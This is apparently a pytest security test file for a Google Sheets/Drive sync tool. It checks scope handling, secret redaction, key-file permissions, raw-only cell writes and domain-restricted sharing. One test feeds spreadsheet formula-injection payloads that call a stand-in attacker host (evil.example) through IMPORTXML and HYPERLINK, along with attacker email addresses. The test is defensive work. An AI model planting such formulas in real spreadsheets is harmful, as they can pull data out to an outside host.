"""Security properties of PLT Sync, each proved end to end through the real clients or the
real `plt` command line: text reaches Sheets only RAW, sharing stays inside the allowed
domains, secrets never reach output, exposed key files are reported, and the scopes asked
for are exactly the documented ones."""
from __future__ import annotations

import base64
import io
import json
import os
import re
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from importlib import resources
from pathlib import Path

import pytest

from hostile_traffic import SheetTraffic
from programme import DOMAIN, Programme, at
from sync.commands.cli import run
from sync.environment import Environment
from sync.google.workspace import SCOPES, load_credentials
from test_google_session import real_private_key

README = Path(__file__).resolve().parent.parent / "README.md"
REFRESH_TOKEN = "1//0refresh-TOKEN-never-shown-5f1c"
CLIENT_SECRET = "GOCSPX-client-SECRET-never-shown"
SMTP_PASSWORD = "smtp-PASSWORD-never-shown-93b1"
# The JSON body of each permissions.create inside a Drive batch request.
PERMISSION_IN_BATCH = re.compile(r"^(?:POST|PATCH) \S*/permissions\S* HTTP/1\.1\r?\n.*?\r?\n\r?\n(\{[^\r\n]*\})",
                                 re.MULTILINE | re.DOTALL)


class TokenEndpoint(BaseHTTPRequestHandler):
    """Google's token endpoint refusing every grant, echoing what it was sent (the worst case)."""

    received: list[str] = []

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.received.append(body)
        answer = json.dumps({"error": "invalid_grant", "error_description": f"refused: {body}"}).encode()
        self.send_response(400)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, *args):
        """Quiet: the test reads what the endpoint received instead."""


@pytest.fixture
def token_uri():
    TokenEndpoint.received = []
    server = HTTPServer(("127.0.0.1", 0), TokenEndpoint)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/token"
    server.shutdown()
    server.server_close()


def config_for_google(folder: Path, kind: str, credentials: dict, mode: int = 0o600) -> Path:
    key_file = folder / "credentials.json"
    key_file.write_text(json.dumps(credentials))
    os.chmod(key_file, mode)
    text = resources.files("config").joinpath("example.toml").read_text(encoding="utf-8")
    text = text.replace('credentials = "application_default"',
                        f'credentials = "{kind}"\ncredentials_file = "credentials.json"')
    text = text.replace('id = ""', 'id = "form-1"', 1).replace('spreadsheet_id = ""', 'spreadsheet_id = "sheet-1"')
    config = folder / "plt.toml"
    config.write_text(text.replace('parent_folder_id = ""', 'parent_folder_id = "folder-1"'))
    return config


def service_account(token_uri: str, key: str) -> dict:
    return {"type": "service_account", "project_id": "belmont-plt", "private_key_id": "key-id-SECRET-7",
            "private_key": key, "client_email": "plt-sync@belmont-plt.iam.gserviceaccount.com",
            "client_id": "1", "token_uri": token_uri}


def plt(args, environ) -> tuple[int, str]:
    out, err = io.StringIO(), io.StringIO()
    status = run(["-v", "--log-format", "json", *args], Environment(stdout=out, stderr=err, environ=environ,
                                                                        sleep=lambda _s: None))
    return status, out.getvalue() + err.getvalue()


def secrets_of(key: str) -> list[str]:
    """The private key's every line, plus each secret string a file or variable holds."""
    lines = [line for line in key.splitlines() if line and not line.startswith("-----")]
    return [*lines, "key-id-SECRET-7", REFRESH_TOKEN, CLIENT_SECRET, SMTP_PASSWORD]


def test_scopes_are_exactly_the_documented_ones():
    documented = set(re.findall(r"^\| `(https://www\.googleapis\.com/auth/[a-z.]+)` \|", README.read_text(),
                                re.MULTILINE))
    assert set(SCOPES) == documented and len(SCOPES) == len(documented)


def test_credentials_are_built_with_exactly_the_documented_scopes(tmp_path):
    key_file = tmp_path / "key.json"
    key_file.write_text(json.dumps(service_account("https://oauth2.googleapis.com/token", real_private_key())))
    token_file = tmp_path / "token.json"
    token_file.write_text(json.dumps({"type": "authorized_user", "client_id": "c", "client_secret": CLIENT_SECRET,
                                      "refresh_token": REFRESH_TOKEN}))
    assert list(load_credentials("service_account", str(key_file)).scopes) == list(SCOPES)
    assert list(load_credentials("oauth", str(token_file)).scopes) == list(SCOPES)


def test_the_token_request_google_sees_asks_for_exactly_the_documented_scopes(tmp_path, token_uri):
    config = config_for_google(tmp_path, "service_account", service_account(token_uri, real_private_key()))
    plt(["sync", "--config", str(config)], {})
    assertion = re.search(r"assertion=([^&]+)", TokenEndpoint.received[0]).group(1)
    claims = json.loads(base64.urlsafe_b64decode(assertion.split(".")[1] + "=="))
    assert claims["scope"].split(" ") == list(SCOPES)


def test_a_refused_service_account_key_exits_4_and_shows_no_secret_even_verbose(tmp_path, token_uri):
    key = real_private_key()
    config = config_for_google(tmp_path, "service_account", service_account(token_uri, key))
    status, output = plt(["sync", "--config", str(config), "--json"], {})
    assert status == 4 and "Google refused the credentials (invalid_grant)" in output
    assert TokenEndpoint.received, "the key was never tried"
    assert "assertion" not in output
    for secret in secrets_of(key):
        assert secret not in output


def test_an_unusable_token_file_shows_no_secret_even_verbose(tmp_path):
    config = config_for_google(tmp_path, "oauth", {"type": "authorized_user", "client_secret": CLIENT_SECRET,
                                                   "refresh_token": REFRESH_TOKEN})
    status, output = plt(["sync", "--config", str(config)], {})
    assert status == 2 and "google.credentials_file" in output
    assert REFRESH_TOKEN not in output and CLIENT_SECRET not in output


def test_a_broken_key_file_shows_no_part_of_the_key_even_verbose(tmp_path):
    key = real_private_key()
    broken = service_account("https://oauth2.googleapis.com/token", key[:400])
    config = config_for_google(tmp_path, "service_account", broken)
    status, output = plt(["sync", "--config", str(config)], {})
    assert status == 2
    for secret in secrets_of(key[:400])[:3]:
        assert secret not in output


def test_a_credentials_file_others_can_read_is_reported(tmp_path, token_uri):
    config = config_for_google(tmp_path, "service_account", service_account(token_uri, real_private_key()),
                               mode=0o644)
    _status, output = plt(["sync", "--config", str(config)], {})
    assert "can be read by other users" in output and "chmod 600" in output
    os.chmod(tmp_path / "credentials.json", 0o600)
    _status, output = plt(["sync", "--config", str(config)], {})
    assert "can be read by other users" not in output


def smtp_programme(endpoint: str, tmp_path: Path) -> Programme:
    def edit(text: str) -> str:
        return text.replace('backend = "gmail"', 'backend = "smtp"').replace(
            "# [mail.smtp]\n# host = \"smtp.belmont.example.org\"\n# port = 587",
            "[mail.smtp]\nhost = \"127.0.0.1\"\nport = 9").replace(
            "# security", "security").replace("# username_env", "username_env").replace(
            "# password_env", "password_env")
    return Programme.create(endpoint, tmp_path, edit=edit)


def test_an_unreachable_smtp_server_never_shows_the_password(endpoint, tmp_path):
    programme = smtp_programme(endpoint, tmp_path)
    programme.submit("Ana", "Lopez")
    environ = {"PLT_GOOGLE_ENDPOINT": endpoint, "PLT_SMTP_USERNAME": "plt-office", "PLT_SMTP_PASSWORD": SMTP_PASSWORD}
    status, output = plt(["sync", "--config", str(programme.config_path), "--json", "--now", "2017-10-25T09:00"],
                         environ)
    assert status == 1 and "could not reach 127.0.0.1:9" in output
    assert SMTP_PASSWORD not in output
    sheet_text = json.dumps([programme.records(tab) for tab in ("Runs", "Reminders", "Problems")])
    assert "could not reach" in sheet_text and SMTP_PASSWORD not in sheet_text


def test_user_text_reaches_sheets_only_as_raw_strings(endpoint, tmp_path):
    programme = Programme.create(endpoint, tmp_path)
    formula = '=IMPORTXML("http://evil.example/x","//a")'
    programme.submit("Ana", "Lopez", team="=HYPERLINK(\"http://evil.example\")", topic=formula)
    with SheetTraffic() as traffic:
        assert programme.sync(at("2017-10-10 09:00")).exit_code == 0
    writes = traffic.sheet_writes()
    bodies = "".join(request.body for request in writes)
    assert json.dumps(formula)[1:-1] in bodies
    assert "formulaValue" not in bodies and "USER_ENTERED" not in bodies
    assert all("USER_ENTERED" not in request.url for request in writes)
    cells = [cell for request in writes for cell in re.findall(r'"userEnteredValue": \{"(\w+)"', request.body)]
    assert cells and set(cells) <= {"stringValue", "numberValue", "boolValue"}


def test_sharing_never_uses_anyone_or_domain_and_stays_inside_allowed_domains(endpoint, tmp_path):
    programme = Programme.create(endpoint, tmp_path)
    programme.submit("Ana", "Lopez", members=f"Sam Lee <sam.lee@{DOMAIN}>\nEve <eve@evil.example>\n"
                                             f"Mal <mal@{DOMAIN}.evil.example>")
    with SheetTraffic() as traffic:
        assert programme.sync(at("2017-10-10 09:00")).exit_code == 0
    requested = [json.loads(s.body) for s in traffic.sent if "/permissions" in s.url and s.body.startswith("{")]
    requested += [json.loads(part) for s in traffic.sent if "/batch/" in s.url
                  for part in PERMISSION_IN_BATCH.findall(s.body)]
    assert requested, "no permission was requested"
    assert {p["type"] for p in requested} == {"user"}
    assert all(p["emailAddress"].endswith(f"@{DOMAIN}") for p in requested)
    drive = programme.workspace().drive
    parent = programme.settings().drive.parent_folder_id
    folders = drive.files().list(q=f"'{parent}' in parents", fields="files(id)").execute()["files"]
    assert folders
    for folder in folders:
        permissions = drive.permissions().list(fileId=folder["id"], fields="permissions(type,role,emailAddress)")
        for permission in permissions.execute()["permissions"]:
            assert permission["type"] == "user"
            assert permission["role"] == "owner" or permission["emailAddress"].endswith(f"@{DOMAIN}")
